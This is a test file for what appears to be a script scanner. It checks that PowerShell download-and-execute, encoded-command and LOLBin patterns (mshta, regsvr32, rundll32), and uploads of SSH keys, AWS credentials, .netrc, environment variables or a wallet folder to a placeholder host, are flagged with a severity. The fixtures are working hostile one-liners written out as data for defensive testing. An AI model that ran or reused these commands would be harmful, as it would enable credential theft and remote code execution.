import { describe, expect, test } from "vitest";
import { markText, type TextFormat } from "../../text/marked-text.ts";
import { exfiltration } from "../exfiltration.ts";
import { remoteShell } from "../remote-shell.ts";

function seenIn(text: string, format: TextFormat = "script"): readonly string[] {
  const marked = markText(text, format);
  return [remoteShell, exfiltration].flatMap(({ find }) =>
    find(marked).map(({ line, severity = "", confidence, does }) =>
      [line, severity, confidence, does].join(" "),
    ),
  );
}

const download = "runs a download from c.zzz.io in PowerShell";
const url = "https://c.zzz.io/a";

describe("what is fetched is run", () => {
  test.each([
    `$c = New-Object Net.WebClient\n$s = $c.DownloadString("${url}")\nInvoke-Expression $s`,
    `$u = "${url}"\n$s = Invoke-WebRequest $u\niex ($s.Content)`,
    `$script:u = '${url}'\n$global:s = irm $u\n$s | iex`,
    `$s = iwr ${url}\n\n& ([scriptblock]::Create($s))`,
    `Invoke-WebRequest -Uri ${url} -OutFile "$env:TEMP\\a.exe"\n\nStart-Process "$env:TEMP\\a.exe"`,
    `$c = New-Object Net.WebClient\n$c.DownloadFile('${url}', 'a.ps1')\n& .\\a.ps1`,
    `Start-BitsTransfer -Source ${url} -Destination a.exe\n\nsaps -FilePath a.exe`,
    `Invoke-RestMethod ${url} -OutFile 'a b.ps1'\n\nInvoke-Item 'a b.ps1'`,
    `iwr ${url} -OutFile a.cmd\n\nii a.cmd`,
    `iwr ${url} -OutFile a.ps1\n\nif ($x) { . ./a.ps1 }`,
    `$b = $c.DownloadData("${url}")\n\niex $b`,
  ])("%s", (text) => {
    expect(seenIn(text)).toEqual([`3  high ${download}`]);
  });

  test("on one line, and in a block", () => {
    expect(seenIn(`$s = irm ${url}; iex $s`)).toEqual([`1  high ${download}`]);
    const block = `\`\`\`powershell\n$s = irm ${url}\niex $s\n\`\`\``;
    expect(seenIn(block, "markdown")).toEqual([`3  medium ${download}`]);
    expect(seenIn(`# Attacks\n\n${block}`, "markdown")).toEqual([`5 medium low ${download}`]);
    expect(seenIn(`Never do this:\n\n${block}`, "markdown")).toEqual([]);
  });

  test("of a known vendor that is low", () => {
    expect(seenIn("$s = irm https://astral.sh/uv/install.ps1\niex $s")).toEqual([
      "2 low high runs a download from astral.sh in PowerShell",
    ]);
  });

  test("a text that is decoded", () => {
    const text = "$b = [Convert]::FromBase64String('aWV4')\n$t = $e.GetString($b)\niex $t";
    expect(seenIn(text)).toEqual(["3 critical high decodes a text and runs it"]);
  });
});

describe("what is read is sent", () => {
  const sent = "critical high sends";
  test.each([
    [
      `$k = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\nirm ${url} -Method Post -Body $k`,
      "$env:USERPROFILE\\.ssh\\id_rsa",
    ],
    [`$k = gc -Path ~/.aws/credentials\n$c.UploadString("${url}", $k)`, "~/.aws/credentials"],
    [
      `$k = [IO.File]::ReadAllText("$HOME/.netrc")\nInvoke-WebRequest ${url} -Body $k`,
      "$HOME/.netrc",
    ],
    [
      `$k = [IO.File]::ReadAllBytes("\${env:HOME}/.netrc")\n$c.UploadData("${url}", $k)`,
      "${env:HOME}/.netrc",
    ],
    [
      `$k = [IO.File]::ReadAllLines('$env:HOME/.netrc')\nInvoke-RestMethod ${url} -Form $k`,
      "$env:HOME/.netrc",
    ],
    [`$k = Get-Content -LiteralPath ~/.netrc\niwr ${url} -InFile $k`, "~/.netrc"],
  ])("%s", (text, path) => {
    expect(seenIn(text)).toEqual([`2 ${sent} ${path} to c.zzz.io`]);
  });

  test("at once", () => {
    expect(seenIn(`$c.UploadFile("${url}", (gc ~/.netrc))`)).toEqual([
      `1 ${sent} ~/.netrc to c.zzz.io`,
    ]);
  });
});

describe("programs that run remote code", () => {
  const runs = "runs remote code from c.zzz.io";
  test.each([
    `mshta ${url}.hta`,
    `mshta.exe "${url}.hta"`,
    `regsvr32 /s /n /u /i:${url}.sct scrobj.dll`,
    `rundll32.exe javascript:"\\..\\mshtml",RunHTMLApplication ${url}`,
  ])("%s", (text) => {
    expect(seenIn(text)).toEqual([`1  high ${runs}`]);
  });

  const encoded = "aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA";
  test.each(["-enc", "-e", "-ec", "-EncodedCommand"])("a command that is encoded: %s", (option) => {
    const text = `powershell -nop -w hidden ${option} ${encoded}`;
    expect(seenIn(text)).toEqual(["1 critical high runs an encoded command"]);
    expect(seenIn(`pwsh.exe ${option} ${encoded}`)).toHaveLength(1);
    expect(seenIn(text, "markdown")).toEqual([]);
  });
});

describe("a secret that only its path or the environment names is sent", () => {
  test.each([
    `$p = "$HOME\\.ssh\\id_rsa"\n$k = Get-Content $p\nirm ${url} -Method Post -Body $k`,
    `$p = Join-Path $HOME ".ssh\\id_rsa"\nirm ${url} -Method Post -InFile $p`,
    `$p = (Join-Path -Path "~" -ChildPath '.ssh/id_rsa')\n$c.UploadFile("${url}", $p)`,
    `$p = "~/.ssh/id_rsa"\n$k = [IO.File]::ReadAllText($p)\n$c.UploadString("${url}", $k)`,
    `$p = "~/.ssh/id_rsa"\n$k = gi $p\nirm ${url} -Form @{ f = $k }`,
  ])("%s", (text) => {
    expect(seenIn(text).map((line) => line.replaceAll("\\", "/"))).toEqual([
      expect.stringMatching(/critical high sends (?:\$HOME|~)\/.ssh\/id_rsa to c\.zzz\.io/),
    ]);
  });

  test.each([
    `$e = Get-ChildItem env:\nirm ${url} -Method Post -Body $e`,
    `$e = gci env: | Out-String\nirm ${url} -Method Post -Body $e`,
    `irm ${url} -Method Post -Body ([Environment]::GetEnvironmentVariables())`,
  ])("%s", (text) => {
    expect(seenIn(text)).toEqual([
      expect.stringContaining("critical high sends the environment to c.zzz.io"),
    ]);
  });
});

describe("silent:", () => {
  test.each<[string, string, TextFormat?]>([
    ["a download that is kept", `$s = irm ${url}\n$s | Out-File a.json`],
    ["another variable that is run", `$s = irm ${url}\n$t = 'Get-Date'\niex $t`],
    ["another file that is started", `iwr ${url} -OutFile a.zip\nStart-Process notepad.exe`],
    ["a download from this machine", "$s = irm http://localhost:8080/a\niex $s"],
    ["a file of this machine", "iwr http://localhost/a -OutFile a.ps1\n& .\\a.ps1"],
    ["a file that is sent elsewhere", `$k = gc ~/.netrc\n$d = irm ${url} -Body $form`],
    ["notes that are sent", `$k = gc notes.txt\nirm ${url} -Body $k`],
    ["keys for this machine", "$k = gc ~/.netrc\nirm http://localhost:1/a -Body $k"],
    ["a path that nothing opens", `$p = "~/.ssh/id_rsa"\nirm ${url} -Body $p`],
    ["one variable of the environment", `irm ${url} -Body $env:USERNAME`],
    ["keys for nobody", "$k = gc ~/.netrc\nirm $u -Body $k"],
    ["a comment", `# $s = irm ${url}; iex $s`],
    ["a page of this machine", "mshta http://127.0.0.1/a.hta"],
    ["a page in a sentence", "- mshta opens pages", "markdown"],
    ["a block of another language", `\`\`\`js\n$s = irm(\`${url}\`);\niex($s)\n\`\`\``, "markdown"],
  ])("%s", (_name, text, format) => {
    expect(seenIn(text, format)).toEqual([]);
  });

  test("a shell script, and prose", () => {
    const text = `$s = irm ${url}\niex $s\n`;
    expect(seenIn(text, "shell")).toEqual([]);
    expect(seenIn(text, "markdown")).toEqual([]);
    expect(seenIn(`Others run \`mshta ${url}\` there.`, "markdown")).toEqual([]);
  });
});

test("what a function fetches, it returns", () => {
  const fetching = "function Get-It {\n  param($u)\n  return $c.DownloadString($u)\n}\n";
  expect(seenIn(`${fetching}$s = Get-It "${url}"\niex $s`)).toEqual([`6  high ${download}`]);
  expect(seenIn(`${fetching}iex (Get-It $x)`)).toEqual(["5  high runs a download in PowerShell"]);
  expect(seenIn(`${fetching}iex (Get-Other "${url}")`)).toEqual([]);
  const storing = "function Get-It {\n  $c.DownloadFile($u, 'a.txt')\n}\n";
  expect(seenIn(`${storing}iex (Get-It "${url}")`)).toEqual([]);
});

test("an archive of secrets that is sent has their name", () => {
  const list = '$src = @("$env:APPDATA\\Exodus", "$env:TEMP\\a")\n';
  const pack =
    '$out = Join-Path $env:TEMP "a.zip"\nCompress-Archive -Path $src -DestinationPath $out\n';
  const send = `Invoke-RestMethod -Uri "${url}" -Method Post -InFile $out`;
  const sent = "4 critical high sends $env:APPDATA\\Exodus to c.zzz.io";
  expect(seenIn(`${list}${pack}${send}`)).toEqual([sent]);
  expect(seenIn(`$src = @("$env:TEMP\\b")\n${pack}${send}`)).toEqual([]);
  expect(seenIn(`$src = [Convert]::FromBase64String("YQ==")\n${pack}${send}`)).toEqual([]);
});
